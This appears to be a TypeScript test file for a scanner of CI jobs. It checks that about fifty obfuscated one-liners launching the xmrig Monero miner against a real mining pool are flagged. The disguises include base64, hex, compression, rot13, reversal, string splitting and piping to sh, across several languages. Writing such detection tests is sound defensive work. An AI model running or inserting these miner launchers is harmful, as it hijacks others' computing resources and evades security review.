// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell texts are full of them.
/** The same in other languages, on a command line, in a file, and as a step of its own. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { scanJob } from './test-scanner.ts';
import { testAddress } from './wallet/test-addresses.ts';

const W = testAddress('monero', 1);
const P = 'pool.supportxmr.com:443';
const GO = `-o ${P} -u ${W}`;
const MINE = `./xmrig ${GO} -p x`;

const b64 = (data: string | Uint8Array): string => Buffer.from(data).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const reversed = (text: string): string => [...text].reverse().join('');
const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',');
const rot13 = (text: string): string =>
  text.replace(/[a-zA-Z]/g, (c) => {
    const base = c <= 'Z' ? 65 : 97;
    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base);
  });
const B = b64(MINE);
const H = hex(MINE);
/** A program on the command line of its interpreter. */
const py = (code: string): string => `python3 -c "${code}"`;
const js = (code: string): string => `node -e "${code}"`;
const exec = (text: string): string => js(`require('child_process').exec(${text})`);
const ZLIB = b64(deflateSync(MINE));
const GZIP = b64(gzipSync(MINE));
const CALL = `import os\nos.system("${MINE}")`;

const CASES: readonly (readonly [technique: string, script: string])[] = [
  ['b64 decode py', `python3 -c "import base64,os;os.system(base64.b64decode('${B}').decode())"`],
  [
    'b64 decode py print',
    `python3 -c "import base64;print(base64.b64decode('${B}').decode())" | sh`,
  ],
  ['b64 py exec', py(`exec(__import__('base64').b64decode('${b64(CALL)}'))`)],
  ['py hex', `python3 -c "import os;os.system(bytes.fromhex('${H}').decode())"`],
  ['py binascii', `python3 -c "import os,binascii;os.system(binascii.unhexlify('${H}').decode())"`],
  [
    'py zlib',
    py(`import os,zlib,base64 as b;os.system(zlib.decompress(b.b64decode('${ZLIB}')).decode())`),
  ],
  [
    'py gzip',
    py(`import os,gzip,base64 as b;os.system(gzip.decompress(b.b64decode('${GZIP}')).decode())`),
  ],
  ['py concat', py(`import os;os.system('./xm'+'rig -o pool.support'+'xmr.com:443 -u ${W}')`)],
  ['py join', py(`import os;os.system(' '.join(['./xmrig','-o','${P}','-u','${W}']))`)],
  ['py chr', `python3 -c "import os;os.system(''.join(map(chr,[${codes(MINE)}])))"`],
  ['py rev', `python3 -c "import os;os.system('${reversed(MINE)}'[::-1])"`],
  ['py var', py(`import os;c='./xmrig -o ${P}';w='${W}';os.system(c+' -u '+w)`)],
  ['py fstring', py(`import os;w='${W}';os.system(f'./xmrig -o ${P} -u {w}')`)],
  ['py format', py(`import os;os.system('./xmrig -o {} -u {}'.format('${P}','${W}'))`)],
  ['py percent', py(`import os;os.system('./xmrig -o %s -u %s' % ('${P}','${W}'))`)],
  ['py list', py(`import subprocess;subprocess.Popen(['./xmrig','-o','${P}','-u','${W}'])`)],
  ['py rot13', `python3 -c "import os,codecs;os.system(codecs.decode('${rot13(MINE)}','rot13'))"`],
  ['py getattr', `python3 -c "import os;getattr(os,'sys'+'tem')('${MINE}')"`],
  ['py __import__', `python3 -c "__import__('os').system('${MINE}')"`],
  ['perl mime', `perl -MMIME::Base64 -e 'system(decode_base64("${B}"))'`],
  ['perl print', `perl -MMIME::Base64 -e 'print decode_base64("${B}")' | sh`],
  ['perl pack', `perl -e 'system(pack("H*","${H}"))'`],
  ['perl exec backtick', `perl -e '\`${MINE}\`'`],
  ['perl qx', `perl -e 'qx{${MINE}}'`],
  ['php', `php -r 'system(base64_decode("${B}"));'`],
  ['php print', `php -r 'echo base64_decode("${B}");' | sh`],
  ['php hex2bin', `php -r 'shell_exec(hex2bin("${H}"));'`],
  ['php gz', `php -r 'system(gzinflate(base64_decode("${b64(deflateRawSync(MINE))}")));'`],
  ['php strrev', `php -r 'system(strrev("${reversed(MINE)}"));'`],
  ['php rot13', `php -r 'system(str_rot13("${rot13(MINE)}"));'`],
  ['php backtick', `php -r '\`${MINE}\`;'`],
  ['ruby', `ruby -e 'system("${B}".unpack1("m"))'`],
  ['ruby base64', `ruby -rbase64 -e 'puts Base64.decode64("${B}")' | sh`],
  ['ruby backtick', `ruby -e '\`${MINE}\`'`],
  ['ruby %x', `ruby -e '%x(${MINE})'`],
  ['node', `node -e "require('child_process').execSync(Buffer.from('${B}','base64').toString())"`],
  ['node print', `node -p "Buffer.from('${B}','base64').toString()" | sh`],
  ['node concat', `node -e "require('child_process').exec('./xm'+'rig ${GO}')"`],
  ['node join', exec(`['./xmrig','-o','${P}','-u','${W}'].join(' ')`)],
  ['node spawn', js(`require('child_process').spawn('./xmrig',['-o','${P}','-u','${W}'])`)],
  ['node fromCharCode', exec(`String.fromCharCode(${codes(MINE)})`)],
  ['node rev', exec(`'${reversed(MINE)}'.split('').reverse().join('')`)],
  [
    'node tmpl',
    js(`const w='${W}';require('child_process').exec(\\\`./xmrig -o ${P} -u \\\${w}\\\`)`),
  ],
  [
    'node array rot',
    js(`a=['${W}','./xmrig',' -o ${P} -u '];require('child_process').exec(a[1]+a[2]+a[0])`),
  ],
  ['lua', `lua -e 'os.execute("${MINE}")'`],
  ['python heredoc', `python3 <<E\nimport os\nos.system("${MINE}")\nE`],
  [
    'cat py run',
    `cat > t.py <<E\nimport subprocess\nsubprocess.call("${MINE}", shell=True)\nE\npython3 t.py`,
  ],
];

for (const [technique, script] of CASES) {
  test(`seen through: ${technique}`, () => {
    const report = scanJob({ scripts: [script] });
    assert.equal(report.verdict, 'confirmed', `${script}\n${JSON.stringify(report, null, 1)}`);
  });
}

const STEPS: readonly (readonly [technique: string, code: string])[] = [
  ['py script', `import os, base64\ncmd = base64.b64decode("${B}").decode()\nos.system(cmd)`],
  [
    'py script parts',
    `import subprocess as s\nP = "${P}"\nW = "${W}"\na = ["./x", "-o", P,\n  "-u", W]\ns.run(a)`,
  ],
  ['py write', `open('run.sh','w').write('${MINE}')\nimport os\nos.system('sh run.sh')`],
];

for (const [technique, code] of STEPS) {
  test(`seen through: ${technique}`, () => {
    const report = scanJob({ scripts: [code], shell: 'python' });
    assert.equal(report.verdict, 'confirmed', `${code}\n${JSON.stringify(report, null, 1)}`);
  });
}
